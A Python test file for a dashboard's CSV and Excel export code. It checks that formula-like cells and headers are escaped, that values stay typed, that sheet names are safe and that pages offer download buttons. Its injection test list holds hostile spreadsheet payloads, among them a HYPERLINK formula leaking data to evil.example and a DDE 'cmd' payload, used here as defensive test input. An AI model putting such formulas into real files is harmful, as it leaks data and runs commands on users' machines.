"""Every export format (CSV English, CSV German, .xlsx) neutralises formula-like cells and headers
the same way, and the .xlsx read back with openpyxl holds typed numbers and dates equal to the table."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime

import openpyxl
import pandas as pd
import pytest

from analytics.review import LISTS
from data.export import is_plain_number, neutralise, sheet_name, to_csv_bytes, to_xlsx_bytes
from tests.support import charts

# (text in the table, what every export must hold) — hand-written, one line per attack or non-attack
INJECTION = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("@SUM(1)", "'@SUM(1)"),
    ("+49 123 456", "'+49 123 456"),
    ("-x", "'-x"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-inf", "'-inf"),
    ("+nan", "'+nan"),
    ("-1_000", "'-1_000"),
    ("-Infinity", "'-Infinity"),
    ("-1e999", "'-1e999"),  # digits, but not a finite number
    ("-5", "-5"),  # a plain finite number written as text stays as it is
    ("+1.25", "+1.25"),
    ("-3e2", "-3e2"),
    ("Nord", "Nord"),
    ("Süd = gut", "Süd = gut"),  # '=' only matters at the start
    ("", ""),
]
# headers come from user data too (a team's unit names the estimate column of the items download)
HEADERS = [("=1+1", "'=1+1"), ("@SUM(1)", "'@SUM(1)"), ("-Infinity", "'-Infinity"), ("team", "team"),
           ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")")]


def injection_frame() -> pd.DataFrame:
    texts = [text for text, _ in INJECTION]
    return pd.DataFrame({
        HEADERS[0][0]: texts,
        HEADERS[1][0]: [float(i) - 3.5 for i in range(len(texts))],  # typed numbers, some negative
        HEADERS[2][0]: pd.to_datetime([date(2026, 11, 1 + i) for i in range(len(texts))]),
        HEADERS[3][0]: [i % 2 == 0 for i in range(len(texts))],
        HEADERS[4][0]: list(range(-9, len(texts) - 9)),  # integers, negative ones are numbers not formulas
    })


def read_csv(data: bytes, german: bool) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";" if german else ","))


@pytest.mark.parametrize("german", [False, True], ids=["csv-en", "csv-de"])
def test_csv_neutralises_every_formula_cell_and_header(german):
    frame = injection_frame()
    rows = read_csv(to_csv_bytes(frame, german=german), german)
    assert rows[0] == [expected for _, expected in HEADERS]
    assert [row[0] for row in rows[1:]] == [expected for _, expected in INJECTION]
    # numbers stay numbers: -3.5 as '-3.5' (English) or '-3,5' (German), never with an apostrophe
    assert rows[1][1] == ("-3,5" if german else "-3.5")
    assert rows[1][4] == "-9"
    assert rows[1][2] == "2026-11-01"
    assert frame.columns[0] == "=1+1" and frame.iloc[0, 0] == "=1+1"  # the caller's frame is not touched


def test_xlsx_has_no_formula_and_equals_the_table():
    frame = injection_frame()
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes({"Items": frame})))
    sheet = book["Items"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)  # no cell is a formula
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == [expected for _, expected in HEADERS]
    # XML reads a carriage return back as a line feed; the export writes it as one already
    assert [row[0] or "" for row in rows[1:]] == [expected.replace("\r", "\n") for _, expected in INJECTION]
    assert [row[1] for row in rows[1:]] == [float(i) - 3.5 for i in range(len(INJECTION))]
    assert [row[2] for row in rows[1:]] == [datetime(2026, 11, 1 + i) for i in range(len(INJECTION))]
    assert [row[3] for row in rows[1:]] == [i % 2 == 0 for i in range(len(INJECTION))]
    assert [row[4] for row in rows[1:]] == list(range(-9, len(INJECTION) - 9))
    # typed cells: numbers numeric, dates dates (not text), booleans booleans
    second = sheet[2]
    assert [c.data_type for c in second] == ["s", "n", "d", "b", "n"]
    assert second[2].is_date and second[2].number_format == "YYYY-MM-DD"
    assert sheet.freeze_panes == "A2"


def test_xlsx_one_sheet_per_table_with_safe_names_human_headers_and_german_dates():
    items = pd.DataFrame({"item_key": ["NN-1"], "estimate": [3.0], "done_on": pd.to_datetime(["2026-03-05"])})
    sprints = pd.DataFrame({"sprint": ["S 1"], "committed": [20.0]})
    tables = {"Items: Sprint [7] / a*b?": items, "x" * 40: sprints, "Items_ Sprint _7_ _ a_b_": sprints}
    headers = {"item_key": "Schlüssel", "estimate": "Schätzung", "done_on": "Erledigt am"}
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(tables, headers=headers, german=True)))
    # []:*?/\ replaced, at most 31 characters, a clash numbered
    assert book.sheetnames == ["Items_ Sprint _7_ _ a_b_", "x" * 31, "Items_ Sprint _7_ _ a_b_ (2)"]
    first = book.worksheets[0]
    assert list(next(first.iter_rows(values_only=True))) == ["Schlüssel", "Schätzung", "Erledigt am"]
    assert list(first.iter_rows(min_row=2, values_only=True)) == [("NN-1", 3, datetime(2026, 3, 5))]
    assert first["C2"].number_format == "DD.MM.YYYY"
    assert all(sheet.freeze_panes == "A2" for sheet in book.worksheets)


def test_xlsx_keeps_missing_values_empty_and_strips_control_characters():
    frame = pd.DataFrame({"a": ["ok\x00\x07", None], "b": [float("nan"), 2.0],
                          "c": pd.to_datetime([None, "2026-01-02 10:30"])})
    rows = list(openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes({"t": frame}))).active.iter_rows(values_only=True))
    assert rows[1:] == [("ok", None, None), (None, 2, datetime(2026, 1, 2, 10, 30))]


def test_infinite_numbers_are_text_in_every_format():
    frame = pd.DataFrame({"v": [float("inf"), float("-inf"), 1.5]})
    assert [r[0] for r in read_csv(to_csv_bytes(frame), False)[1:]] == ["inf", "'-inf", "1.5"]
    assert [r[0] for r in read_csv(to_csv_bytes(frame, german=True), True)[1:]] == ["inf", "'-inf", "1,5"]
    rows = list(openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes({"t": frame}))).active.iter_rows(values_only=True))
    assert [r[0] for r in rows[1:]] == ["inf", "'-inf", 1.5]


def test_plain_number_rule():
    assert [is_plain_number(t) for t in ("-5", "+1.25", "-.5", "3e2", "-3E-2")] == [True] * 5
    assert [is_plain_number(t) for t in ("-inf", "+nan", "-1_000", "-Infinity", "1e999", "+49 123", "-", "- 5")] \
        == [False] * 8
    assert neutralise(-5) == -5 and neutralise(2.5) == 2.5 and neutralise(None) is None


def test_sheet_name_rules():
    taken: set[str] = set()
    assert sheet_name("", taken) == "Sheet"
    assert sheet_name("'quoted'", taken) == "quoted"
    assert sheet_name("SHEET", taken) == "SHEET (2)"  # Excel compares sheet names case-insensitively
    assert len(sheet_name("y" * 100, taken)) == 31


def _page_with_two_tables():
    import pandas as pd
    import streamlit as st

    import downloads
    import ui
    from analytics import charts
    st.session_state.setdefault("lang", "de")
    downloads.start_page("page_review")
    ui.table(pd.DataFrame({"team": ["=1+1"], "committed": [3.5]}), "items", "items_S 1", unit="Termine")
    ui.table(pd.DataFrame({"sprint": ["S1"], "end_date": pd.to_datetime(["2026-03-05"])}), "sprints", "sprints")
    ui.table(pd.DataFrame({"sprint": ["S2"]}), "sprints_again", "sprints")  # same file name, own sheet
    ui.chart(charts.empty_figure("x"), "a_chart")
    ui.page_xlsx_download()


def test_pages_offer_xlsx_per_table_and_one_workbook_for_the_page():
    from streamlit.testing.v1 import AppTest

    import downloads
    at = AppTest.from_function(_page_with_two_tables, default_timeout=60).run()
    assert not at.exception
    labels = [button.proto.label for button in at.get("download_button")]
    assert labels == ["Als CSV herunterladen", "Als Excel herunterladen"] * 3 + \
        ["Alle Tabellen dieser Seite als eine Excel-Datei"]
    tables = at.session_state["_page_tables"]
    assert list(tables) == ["items_S 1", "sprints", "sprints (2)"]
    book = openpyxl.load_workbook(io.BytesIO(downloads.workbook(tables, "de")))
    assert book.sheetnames == ["items_S 1", "sprints", "sprints (2)"]
    assert list(book["sprints (2)"].iter_rows(values_only=True)) == [("Sprint",), ("S2",)]
    assert list(book["items_S 1"].iter_rows(values_only=True)) == [("Team", "Zugesagt (Termine)"), ("'=1+1", 3.5)]
    assert list(book["sprints"].iter_rows(values_only=True)) == [("Sprint", "Ende"), ("S1", datetime(2026, 3, 5))]
    assert book["sprints"]["B2"].number_format == "DD.MM.YYYY"
    # the chart keeps plotly's offline "download as PNG" button
    config = charts(at)[0]["config"]
    assert config["toImageButtonOptions"]["format"] == "png" and "modeBarButtonsToRemove" not in config


PAGE_DOWNLOADS = {  # page → the buttons it ends with, besides a CSV and an .xlsx per table
    "pages/home.py": [],
    "pages/import.py": ["Download backup"],
    "pages/sprint_review.py": ["Report as HTML", "Report as PDF"],
    "pages/retrospective.py": [],
    "pages/okrs.py": ["Report as HTML", "Report as PDF"],
    "pages/teams.py": [],
}


def in_closed_tabs(at, page: str) -> set[str]:
    """The workbook's names of the tables in the page's closed tabs, as the demo opens the page: the
    Sprint review's lists but the completed items, the OKRs page's tabs but the weekly."""
    if page == "pages/sprint_review.py":
        sprint = at.selectbox(key="review_sprint").value[1]
        return {f"{listed}_{sprint}" for listed in LISTS if listed != "completed"}
    if page == "pages/okrs.py":
        cycle = at.selectbox(key="okr_cycle").value
        return {f"revisions_{cycle}", f"rewordings_{cycle}", f"company_goals_{cycle}", f"comparison_{cycle}", "calibration"}
    return set()


@pytest.mark.parametrize("page", list(PAGE_DOWNLOADS))
def test_every_page_ends_with_its_workbook_and_its_own_downloads(demo_dashboard, page):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file("../dashboard.py", default_timeout=90).run()
    if page != "pages/home.py":
        at.switch_page(page).run()
    assert not at.exception
    downloads = [b.proto.label for b in at.get("download_button")]
    buttons = [b.label for b in at.button]
    tables = at.session_state["_page_tables"]
    # every table the page showed has its CSV and .xlsx, and all of them are in the page's workbook,
    # with the tables of its closed tabs (drawn when chosen, with their downloads then)
    closed = [name for name in tables if name in in_closed_tabs(at, page)]
    assert downloads.count("Download CSV") == downloads.count("Download Excel") == len(tables) - len(closed) > 0
    assert bool(closed) == (page in ("pages/sprint_review.py", "pages/okrs.py"))
    assert downloads[-1] == "All tables of this page as one Excel file"
    for label in PAGE_DOWNLOADS[page]:
        assert label in downloads or label in buttons
    # switching to another page forgets this page's tables: the workbook there is the other page's only
    other = "pages/teams.py" if page != "pages/teams.py" else "pages/home.py"
    at.switch_page(other).run()
    fresh = AppTest.from_file("../dashboard.py", default_timeout=90).run()
    if other != "pages/home.py":
        fresh.switch_page(other).run()
    assert list(at.session_state["_page_tables"]) == list(fresh.session_state["_page_tables"])
    assert set(tables) - set(fresh.session_state["_page_tables"])  # this page had tables the other has not
